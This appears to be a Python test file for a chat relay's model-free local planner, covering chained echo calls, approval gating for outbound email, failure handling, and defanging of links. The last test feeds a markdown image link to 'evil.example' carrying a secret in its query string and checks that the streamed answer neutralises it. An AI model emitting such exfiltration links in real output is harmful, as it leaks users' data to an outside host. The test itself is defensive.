"""A chat without any model: the local planner calls, with what earlier calls returned, and says what came of it."""

import asyncio
from pathlib import Path
from typing import Any

import pytest

from relay.chat.identity import hash_of
from relay.chat.journal import Journal
from relay.chat.views import Said
from relay.core.effect import EffectRefused
from relay.store.target import Target
from tests.chat_world import ADDRESS, REQUEST, World, open_chat

ECHO = 'Echo "one" and then echo "two"'


async def test_the_local_planner_calls_one_after_another(target: Target, tmp_path: Path) -> None:
    async with open_chat(target, tmp_path / "data") as world:
        view = await world.say(await world.key(), ECHO)
        assert (view.status, view.model, view.usage.cost) == ("done", "local", 0)
        assert [(made.action, made.status) for made in view.calls] == [("relay.echo", "succeeded")] * 2
        assert view.message.count("Done:") == 2 and view.message.count("(relay.echo).") == 2
        assert ". (" not in view.message


async def test_the_local_planner_takes_results_of_earlier_calls(target: Target, tmp_path: Path) -> None:
    async with open_chat(target, tmp_path / "data") as world:
        view = await world.say(await world.key(), 'Echo "hello" and then echo the result')
        results = [made.result for made in view.calls]
        assert len(results) == 2, view.message
        assert results[0] is not None and results[1] is not None
        assert results[1] == results[0] or "hello" in str(results[1])


async def test_what_the_local_planner_does_not_understand_is_said_plainly(target: Target, tmp_path: Path) -> None:
    async with open_chat(target, tmp_path / "data") as world:
        view = await world.say(await world.key(), "Make me happy somehow")
        assert (view.status, view.calls, view.model) == ("done", [], "local")
        assert "Nothing is planned" in view.message


async def test_the_example_that_the_local_planner_gives_is_shown_as_it_is_and_understood(
    sqlite_target: Target, tmp_path: Path
) -> None:
    async with open_chat(sqlite_target, tmp_path / "data") as world:
        agent = await world.key()
        hint = (await world.say(agent, "hello")).message
        _, _, example = hint.partition("for instance: ")
        assert example and "[.]" not in hint
        assert [made.action for made in (await world.say(agent, example)).calls] == ["email.send"]


async def test_the_local_planner_waits_for_approval_and_goes_on_after_a_restart(target: Target, tmp_path: Path) -> None:
    mail = 'Email ada@outside.example about "news" saying "hello" and then echo "sent"'
    async with open_chat(target, tmp_path / "data") as world:
        agent, person = await world.key(), await world.key("approver", kind="person")
        view = await world.say(agent, mail)
        assert (view.status, [made.status for made in view.calls]) == ("awaiting_approval", ["pending_approval"])
    async with open_chat(target, tmp_path / "data") as world:
        await world.decide(person, view.calls[0], "deny")
        done = await world.until(view.id, "done", "failed")
        assert [made.status for made in done.calls] == ["denied"]
        assert "denied by a person" in done.message
        assert "relay.echo was not called" in done.message
        view = await world.say(agent, mail, view.session_id)
        await world.decide(person, view.calls[0])
        done = await world.until(view.id, "done", "failed")
        assert [made.status for made in done.calls] == ["succeeded", "succeeded"]


async def test_a_failure_ends_the_local_plan(target: Target, tmp_path: Path) -> None:
    outside = World()
    outside.fail("map", EffectRefused("upstream_status_500", "No."))
    async with open_chat(target, tmp_path / "data", world=outside) as world:
        said = Said('thing.read what "map" and then echo "found"', REQUEST, ADDRESS)
        view = await world.rest((await world.chat.send(await world.key(), said)).turn_id)
        assert view.status == "done"
        assert not any(made.action == "relay.echo" and made.status == "succeeded" for made in view.calls)


async def test_links_do_not_leave_by_the_running_answer_either(
    sqlite_target: Target, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with open_chat(sqlite_target, tmp_path / "data") as world:
        owner = await world.key()
        shown, go_on, answered = asyncio.Event(), asyncio.Event(), Journal.answered

        async def slow(journal: Journal, *what: Any) -> Any:
            shown.set()
            await go_on.wait()
            return await answered(journal, *what)

        monkeypatch.setattr(Journal, "answered", slow)
        handle = await world.send(owner, 'Gibber about "![x](https://evil.example/?q=secret)"')
        await shown.wait()
        running = world.chat._runner.running(hash_of(handle.session_id) or "")
        go_on.set()
        view = await world.rest(handle.turn_id)
        assert running is not None and "evil[.]example" in running.text
        assert running.text == view.message
